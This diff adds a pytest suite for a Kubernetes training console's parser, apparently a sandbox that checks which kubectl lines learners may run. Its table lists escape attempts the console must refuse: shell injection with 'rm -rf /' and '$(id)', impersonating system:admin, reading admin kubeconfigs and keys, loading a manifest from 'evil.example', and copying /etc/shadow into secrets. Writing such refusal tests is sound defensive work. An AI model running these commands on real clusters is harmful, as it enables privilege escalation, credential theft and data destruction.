@@ -1,0 +1,267 @@
+"""The console's allow/deny table: every line a learner might type, and what the console does with it.
+
+Each row is (line, expected): `None` when the line runs, or the refusal's category. Escape
+attempts (other credentials, other clusters, other namespaces, the server's files, a shell)
+are the point of most rows.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from challenges.console.parser import Refused, Scope, parse, split
+from challenges.console.rules import Category
+
+NS = "breakfix-7"
+SCOPE = Scope(namespace=NS)
+KIND_SCOPE = Scope(namespace=NS, cluster_wide=True)
+
+SHELL = Category.SHELL
+OTHER = Category.OTHER_PROGRAMS
+PLUGIN = Category.PLUGINS
+IDENTITY = Category.IDENTITY
+TARGET = Category.TARGET
+NAMESPACE = Category.NAMESPACE
+FILES = Category.LOCAL_FILES
+CONNECTION = Category.CONNECTION
+INTERACTIVE = Category.INTERACTIVE
+
+TABLE: list[tuple[str, Category | None]] = [
+    # --- what learners do all day ----------------------------------------------------------------
+    ("kubectl get endpoints frontend", None),
+    ("get pods", None),
+    ("k get pods -o wide", None),
+    ("kubectl describe service frontend", None),
+    ("kubectl get pods --show-labels", None),
+    ("kubectl get endpointslices -l kubernetes.io/service-name=frontend", None),
+    ("kubectl logs deploy/frontend --tail=20", None),
+    ("kubectl logs -p frontend-abc -c nginx", None),
+    ("kubectl get pods -o jsonpath='{.items[*].metadata.labels}'", None),
+    ('kubectl get pods -o "jsonpath={.items[0].metadata.name}"', None),
+    ("kubectl get pods -o custom-columns=NAME:.metadata.name,IP:.status.podIP", None),
+    ("kubectl get pods -l 'app in (frontend, web)'", None),
+    ("kubectl get pods -l app!=frontend", None),
+    ('kubectl patch service frontend -p \'{"spec":{"selector":{"app":"frontend"}}}\'', None),
+    ('kubectl patch svc frontend --type=json -p \'[{"op":"remove","path":"/spec/selector/x"}]\'', None),
+    ("kubectl label pod web-1 tier=web --overwrite", None),
+    ("kubectl scale deployment frontend --replicas=2", None),
+    ("kubectl rollout status deployment/frontend", None),
+    ("kubectl expose deployment webapp --port=80 --target-port=8080 --name=webapp", None),
+    ("kubectl create service clusterip webapp --tcp=80:8080", None),
+    ("kubectl create configmap settings --from-literal=mode=strict", None),
+    ("kubectl delete networkpolicy allow-everything", None),
+    ("kubectl exec web-1 -- cat /etc/nginx/nginx.conf", None),
+    ("kubectl exec web-1 -c nginx -- ls -la /", None),
+    ("kubectl run probe --image=busybox --restart=Never -- wget -qO- http://webapp", None),
+    ("kubectl auth can-i create services", None),
+    ("kubectl explain networkpolicy.spec.ingress", None),
+    ("kubectl api-resources --namespaced=true", None),
+    ("kubectl events --for=pod/web-1", None),
+    ("kubectl get pods -n breakfix-7", None),
+    (f"kubectl get pods --namespace={NS}", None),
+    ("kubectl -v=6 get pods", None),
+    ("kubectl get pods '$HOME'", None),
+    ("kubectl", None),
+    ("kubectl help exec", None),
+    ("kubectl version", None),
+    # --- shell syntax ----------------------------------------------------------------------------
+    ("kubectl get pods | grep frontend", SHELL),
+    ("kubectl get pods > /tmp/pods.txt", SHELL),
+    ("kubectl apply < /etc/passwd", SHELL),
+    ("kubectl get pods; cat /etc/passwd", SHELL),
+    ("kubectl get pods && rm -rf /", SHELL),
+    ("kubectl get pods || true", SHELL),
+    ("kubectl get pods &", SHELL),
+    ("kubectl get pods $(cat /etc/passwd)", SHELL),
+    ("kubectl get pods `id`", SHELL),
+    ('kubectl get pods "$(id)"', SHELL),
+    ('kubectl get pods "`id`"', SHELL),
+    ("kubectl get secret $TOKEN", SHELL),
+    ("kubectl get secret ${HOME}", SHELL),
+    ("kubectl get pods 2>&1", SHELL),
+    ("kubectl get pods 'unclosed", SHELL),
+    ("kubectl get pods\nrm -rf /", SHELL),
+    ("kubectl get pods -l app in (a,b)", SHELL),
+    ("", SHELL),
+    # --- other programs and plugins --------------------------------------------------------------
+    ("ls -la /", OTHER),
+    ("bash -c 'kubectl get pods'", OTHER),
+    ("sudo kubectl get pods", OTHER),
+    ("/usr/bin/kubectl get pods", OTHER),
+    ("cat /etc/passwd", OTHER),
+    ("kubectl krew install sniff", PLUGIN),
+    ("kubectl plugin list", PLUGIN),
+    ("kubectl ns kube-system", PLUGIN),
+    ("kubectl kubectl get pods", PLUGIN),
+    ("kubectl -n breakfix-7 whoami-plugin", PLUGIN),
+    # --- identity ------------------------------------------------------------------------------
+    ("kubectl get pods --as=system:admin", IDENTITY),
+    ("kubectl get pods --as system:admin", IDENTITY),
+    ("kubectl --as-group=system:masters get secrets", IDENTITY),
+    ("kubectl get pods --as-uid=0", IDENTITY),
+    ("kubectl get pods --token=eyJhbGciOi", IDENTITY),
+    ("kubectl get pods --user=admin", IDENTITY),
+    ("kubectl get pods --username=admin --password=admin", IDENTITY),
+    ("kubectl get pods --client-certificate=/etc/kubernetes/pki/admin.crt", IDENTITY),
+    ("kubectl get pods --client-key=/etc/kubernetes/pki/admin.key", IDENTITY),
+    ("kubectl auth can-i '*' '*' --as=system:serviceaccount:kube-system:default", IDENTITY),
+    # --- target: another cluster, or the kubeconfig itself ---------------------------------------
+    ("kubectl --kubeconfig=/root/.kube/config get pods", TARGET),
+    ("kubectl get pods --kubeconfig /etc/kubernetes/admin.conf", TARGET),
+    ("kubectl -s https://10.0.0.1:6443 get pods", TARGET),
+    ("kubectl get pods --server=https://kubernetes.default", TARGET),
+    ("kubectl get pods --context=admin@platform", TARGET),
+    ("kubectl get pods --cluster=platform", TARGET),
+    ("kubectl get pods --insecure-skip-tls-verify", TARGET),
+    ("kubectl get pods --certificate-authority=/tmp/ca.crt", TARGET),
+    ("kubectl get pods --tls-server-name=kubernetes", TARGET),
+    ("kubectl config view --raw", TARGET),
+    ("kubectl config use-context platform", TARGET),
+    # A value that kubectl would read as a flag is still looked at.
+    ("kubectl get pods --selector --kubeconfig=/etc/kubernetes/admin.conf", TARGET),
+    ("kubectl get pods -- --server=https://10.0.0.1", TARGET),
+    # --- other namespaces (namespace backend) -----------------------------------------------------
+    ("kubectl get pods -n kube-system", NAMESPACE),
+    ("kubectl get secrets --namespace=breakfix-8", NAMESPACE),
+    ("kubectl get secrets --namespace breakfix-8", NAMESPACE),
+    ("kubectl -nkube-system get pods", NAMESPACE),
+    ("kubectl -n=default get pods", NAMESPACE),
+    ("kubectl get pods -A", NAMESPACE),
+    ("kubectl get pods --all-namespaces", NAMESPACE),
+    ("kubectl get pods -Ao wide", NAMESPACE),
+    # --- files on the Breakfix server ------------------------------------------------------------
+    ("kubectl apply -f /etc/passwd", FILES),
+    ("kubectl apply -f service.yaml", FILES),
+    ("kubectl apply -f https://evil.example/pwn.yaml", FILES),
+    ("kubectl apply -f -", FILES),
+    ("kubectl create --filename=/root/.kube/config", FILES),
+    ("kubectl delete -f=/tmp/x.yaml", FILES),
+    ("kubectl apply -k ./overlays/dev", FILES),
+    ("kubectl apply --kustomize=https://github.com/x/y", FILES),
+    ("kubectl kustomize .", FILES),
+    ("kubectl cp web-1:/etc/passwd /tmp/passwd", FILES),
+    ("kubectl cp /etc/passwd web-1:/tmp/passwd", FILES),
+    ("kubectl create secret generic loot --from-file=/etc/shadow", FILES),
+    ("kubectl create configmap loot --from-env-file=/proc/self/environ", FILES),
+    ("kubectl patch deploy frontend --patch-file=/etc/passwd", FILES),
+    ("kubectl get pods -o go-template-file=/etc/passwd", FILES),
+    ("kubectl get pods -ojsonpath-file=/etc/passwd", FILES),
+    ("kubectl get pods --output=templatefile --template=/etc/passwd", FILES),
+    ("kubectl get pods --cache-dir=/tmp/cache", FILES),
+    ("kubectl get pods --profile=cpu --profile-output=/tmp/x", FILES),
+    ("kubectl get pods --kuberc=/tmp/kuberc", FILES),
+    ("kubectl cluster-info dump --output-directory=/tmp/dump", FILES),
+    ("kubectl get pods --some-future-file=/etc/passwd", FILES),
+    ("kubectl alpha kuberc view", FILES),
+    ("kubectl apply set-last-applied -f x.yaml", FILES),
+    ("kubectl create secret tls web --cert=/etc/ssl/server.crt --key=/etc/ssl/server.key", FILES),
+    # --- connections that stay open --------------------------------------------------------------
+    ("kubectl proxy --port=8001", CONNECTION),
+    ("kubectl port-forward svc/frontend 8080:80", CONNECTION),
+    ("kubectl attach web-1", CONNECTION),
+    ("kubectl logs -f web-1", CONNECTION),
+    ("kubectl logs --follow deploy/frontend", CONNECTION),
+    ("kubectl logs -fp web-1", CONNECTION),
+    ("kubectl get pods -w", CONNECTION),
+    ("kubectl get pods --watch-only", CONNECTION),
+    ("kubectl events --watch", CONNECTION),
+    # --- interactive ---------------------------------------------------------------------------
+    ("kubectl exec -it web-1 -- sh", INTERACTIVE),
+    ("kubectl exec -ti web-1 -- sh", INTERACTIVE),
+    ("kubectl exec --stdin --tty web-1 -- sh", INTERACTIVE),
+    ("kubectl exec -i web-1 -- sh", INTERACTIVE),
+    ("kubectl exec web-1 -t -- sh", INTERACTIVE),
+    ("kubectl run shell --image=busybox -it --rm -- sh", INTERACTIVE),
+    ("kubectl run shell --image=busybox --attach", INTERACTIVE),
+    ("kubectl edit service frontend", INTERACTIVE),
+    ("kubectl apply edit-last-applied deploy/frontend", INTERACTIVE),
+    ("kubectl debug web-1 -it --image=busybox", INTERACTIVE),
+    ("kubectl debug node/worker-1 --image=busybox", INTERACTIVE),
+    ("kubectl delete pods --all -i", INTERACTIVE),
+]
+
+
+def _category(line: str, scope: Scope = SCOPE) -> Category | None:
+    try:
+        parse(line, scope=scope)
+    except Refused as refused:
+        return refused.refusal.category
+    return None
+
+
+def test_the_table_has_at_least_fifty_rows_of_each_kind_together() -> None:
+    assert len(TABLE) >= 50
+    assert sum(1 for _, expected in TABLE if expected is None) >= 20
+    assert sum(1 for _, expected in TABLE if expected is not None) >= 50
+
+
+@pytest.mark.parametrize(("line", "expected"), TABLE, ids=[repr(line)[:70] for line, _ in TABLE])
+def test_the_console_table(line: str, expected: Category | None) -> None:
+    assert _category(line) == expected
+
+
+def test_every_category_is_in_the_table() -> None:
+    refused = {expected for _, expected in TABLE if expected is not None}
+    assert refused | {Category.TOO_LONG} == set(Category)
+
+
+def test_it_refuses_an_overlong_line() -> None:
+    assert _category("kubectl get pods " + "x" * 3000) == Category.TOO_LONG
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["kubectl get pods -n kube-system", "kubectl get pods -A", "kubectl get secrets --all-namespaces"],
+)
+def test_a_cluster_of_ones_own_may_look_at_other_namespaces(line: str) -> None:
+    assert _category(line, KIND_SCOPE) is None
+
+
+def test_a_cluster_of_ones_own_still_refuses_other_credentials() -> None:
+    assert _category("kubectl get pods --kubeconfig=/etc/kubernetes/admin.conf", KIND_SCOPE) == TARGET
+
+
+def test_the_refusal_says_what_to_do_instead() -> None:
+    with pytest.raises(Refused) as caught:
+        parse("kubectl apply -f service.yaml", scope=SCOPE)
+    assert "editor" in caught.value.refusal.message
+
+    with pytest.raises(Refused) as caught:
+        parse("kubectl get pods -n kube-system", scope=SCOPE)
+    assert NS in caught.value.refusal.message
+
+
+def test_it_drops_the_leading_kubectl_and_keeps_quoted_arguments_whole() -> None:
+    command = parse("kubectl get pods -l 'app in (a, b)' -o name", scope=SCOPE)
+    assert command.args == ["get", "pods", "-l", "app in (a, b)", "-o", "name"]
+    assert command.verb == "get"
+
+
+def test_it_finds_the_verb_after_global_flags() -> None:
+    command = parse(f"-n {NS} get pods", scope=SCOPE)
+    assert command.verb == "get"
+    assert command.namespace_given
+
+
+def test_an_execs_container_command_is_not_read_as_kubectl_flags() -> None:
+    command = parse("kubectl exec web-1 -- env --kubeconfig=/x -it", scope=SCOPE)
+    assert command.args[-3:] == ["env", "--kubeconfig=/x", "-it"]
+
+
+@pytest.mark.parametrize(
+    ("line", "tokens"),
+    [
+        (r"a\ b 'c d' \"e\"", ["a b", "c d", '"e"']),
+        ("''", [""]),
+        ('"x \\$y"', ["x $y"]),
+        ("-o 'jsonpath={$.items}'", ["-o", "jsonpath={$.items}"]),
+        ('"{$.items}"', ["{$.items}"]),
+        ("a|b ignored", None),
+    ],
+)
+def test_it_splits_words_like_a_shell(line: str, tokens: list[str] | None) -> None:
+    if tokens is None:
+        with pytest.raises(Refused):
+            split(line)
+    else:
+        assert split(line) == tokens
